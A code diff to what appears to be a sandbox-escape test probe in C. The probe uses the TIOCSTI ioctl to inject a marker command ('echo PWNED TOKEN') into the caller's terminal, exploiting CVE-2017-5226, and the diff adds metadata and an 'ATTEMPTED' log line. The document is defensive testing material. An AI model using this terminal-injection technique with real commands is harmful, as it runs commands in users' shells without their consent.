@@ -3,6 +3,8 @@
  * tries: type a command into the caller's terminal with TIOCSTI on standard input, for the caller's shell to run after the job ("echo PWNED TOKEN")
  * source: https://nvd.nist.gov/vuln/detail/CVE-2017-5226
  * exfil: no
+ * stopped-when: pwned-absent, terminal-untouched
+ * attempted-when: marker
  *
  * Succeeds when the injected bytes reach the terminal; needs standard
  * input to be the job's controlling terminal (TIOCSTI without
@@ -24,6 +26,7 @@ main(int argc, char **argv)
 		fprintf(stderr, "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
 		return 2;
 	}
+	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
 	n = (size_t)snprintf(cmd, sizeof(cmd), "echo PWNED %s\n", argv[1]);
 	for (i = 0; i < n && i < sizeof(cmd); i++) {
 		if (ioctl(0, TIOCSTI, &cmd[i]) < 0) {
